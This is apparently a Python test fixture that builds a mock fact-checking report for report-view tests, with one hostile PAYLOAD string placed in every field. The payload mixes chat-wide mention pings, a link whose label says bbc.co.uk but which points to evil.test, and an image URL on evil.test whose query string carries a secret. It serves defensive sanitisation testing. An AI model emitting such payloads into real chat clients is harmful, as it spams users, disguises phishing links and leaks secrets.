"""Reports written by hand for the report-view tests: a hostile one (every field carries a payload)."""

from __future__ import annotations

from bot.models import (
    AnalysisStatus,
    ArticleFlag,
    ArticleInfo,
    Claim,
    CounterEvidence,
    EngineInfo,
    EvidenceItem,
    EvidenceSummary,
    LinkCheck,
    Passage,
    PriorFactCheck,
    Report,
    Sourcing,
    SourcingDisagreement,
    SourcingStatus,
    Timings,
    Usage,
)

# What a page (or a model it steered) would like a chat client to do: ping, link, fetch, format.
PAYLOAD = (
    "<!channel> @everyone <@U123> <#C1> [[the official report]](https://evil.test/x) "
    "![p](https://evil.test/p.png?q=SECRET) <https://evil.test|bbc.co.uk> **bold** `code` a & b | c"
)
CITED = "https://gov.example/report-2024.pdf"
EVIDENCE_URL = "https://stats.example/budget/2024"
FACT_CHECK_URL = "https://factcheckers.example/2024/spending-claim"


def evidence_fields(n: int) -> dict:
    """Every field the LLM and evidence work add to a claim, each carrying the payload too."""
    return {
        "article_order": n,
        "selected_by": "offline" if n == 2 else "model",
        "article_support": f"The article cites a ministry statement. {PAYLOAD}",
        "sourcing_disagreement": SourcingDisagreement(
            fields=["status"], audit=Sourcing(status=SourcingStatus.ANONYMOUS, source=f"officials {PAYLOAD}")
        )
        if n == 1
        else None,
        "context_basis": "retrieval" if n == 1 else "model_knowledge",
        "context_evidence_ids": [f"e{n}"] if n == 1 else [],
        "evidence": [
            EvidenceItem(
                id=f"e{n}",
                url=EVIDENCE_URL,
                title=f"Budget statistics {PAYLOAD}",
                publisher=f"Statistics Office {PAYLOAD}",
                published="2024-03-01",
                timing="before",
                quote=f"Spending rose 12% in 2024. {PAYLOAD}",
                start=0,
                end=27,
                provider="wikipedia",
                stance="contradicts" if n == 1 else None,
                fragment_url=EVIDENCE_URL + "#:~:text=Spending%20rose%2012%25",
            )
        ],
        "link_checks": [
            LinkCheck(url=CITED, verdict="not_found", missing=["40%", f"Minister {n}"]),
            LinkCheck(url="https://dead.example/x", verdict="dead", detail="HTTP 404"),
        ]
        if n % 2
        else [],
        "prior_fact_checks": [
            PriorFactCheck(
                url=FACT_CHECK_URL,
                publisher=f"FactCheckers {PAYLOAD}",
                title=f"No, spending did not rise 40% {PAYLOAD}",
                rating=f"Mostly false {PAYLOAD}",
                review_date="2024-05-02",
            )
        ]
        if n == 3
        else [],
        "independent_sources": 1,
    }


def hostile_report(*, claims: int = 3, with_evidence: bool = True) -> Report:
    statuses = list(SourcingStatus)
    text = f"Spending rose 40% in 2024, the ministry said. {PAYLOAD}"
    return Report(
        article=ArticleInfo(
            url="https://paper.example/story",
            title=f"Budget story {PAYLOAD}",
            site_name=f"Paper {PAYLOAD}",
            author=f"Jo {PAYLOAD}",
            published="2026-01-02",
            language="en",
            text=text,
            word_count=len(text.split()),
        ),
        engine=EngineInfo(mode="llm", model="gpt-5-mini", model_cutoff="2024-10"),
        claims=[
            Claim(
                id=f"c{n}",
                quote=f"Spending rose {n}0% in 2024, the ministry said. {PAYLOAD}",
                start=0,
                end=45,
                checkworthiness=0.9,
                claimant=f"Minister {n} {PAYLOAD}",
                why_it_matters=f"The vote depends on it. {PAYLOAD}",
                sourcing=Sourcing(
                    status=statuses[n % len(statuses)],
                    source=f"The ministry {PAYLOAD}",
                    cue="said",
                    link=CITED if n % 2 else None,
                    gap=f"The figure has no document. {PAYLOAD}",
                    chain=[f"Minister {n}", f"Channel 9 {PAYLOAD}"] if n == 3 else [],
                ),
                context=f"Spending was flat in 2023, see {CITED} and https://evil.test/y. {PAYLOAD}",
                counter_evidence=[
                    CounterEvidence(
                        text=f"The audit found 12%. {PAYLOAD} (to verify)", verify_with=f"the audit {PAYLOAD}"
                    ),
                    CounterEvidence(
                        text=f"The ministry revised it. {PAYLOAD}",
                        basis="retrieval" if n == 1 else "model_knowledge",
                        to_verify=n != 1,
                        evidence_ids=[f"e{n}"] if n == 1 else [],
                    ),
                ],
                questions=[f"Where is the document? {PAYLOAD}", f"Who computed 40%? {PAYLOAD}"],
                confidence="medium",
                analysis=AnalysisStatus.OK,
                **(evidence_fields(n) if with_evidence else {}),
            )
            for n in range(1, claims + 1)
        ],
        flags=[
            ArticleFlag(
                kind="opinion_as_fact",
                note=f"Calls the plan a disaster. {PAYLOAD}",
                passages=[Passage(text="Spending rose 40%", start=0, end=17)],
            ),
            ArticleFlag(kind="inconsistency", note="Gives 40% and then 30%."),
        ]
        if with_evidence
        else [],
        evidence_summary=EvidenceSummary(
            providers=["links", "wikipedia"],
            failed_providers=["brave"],
            pages_fetched=9,
            passages=3,
            stance_judged=False,
            counter_points=6,
            counter_points_cited=1,
        )
        if with_evidence
        else None,
        summary=[f"It says spending rose. {PAYLOAD}", "It rests on one ministry.", "Check the audit."],
        sourcing_verdict=f"Thin: one named source. {PAYLOAD}",
        warnings=[f"One analysis was cut short. {PAYLOAD}"],
        usage=Usage(llm_calls=3, prompt_tokens=6000, completion_tokens=2000, total_tokens=8000, cost_usd=0.0123),
        timings=Timings(total_ms=4200),
    )
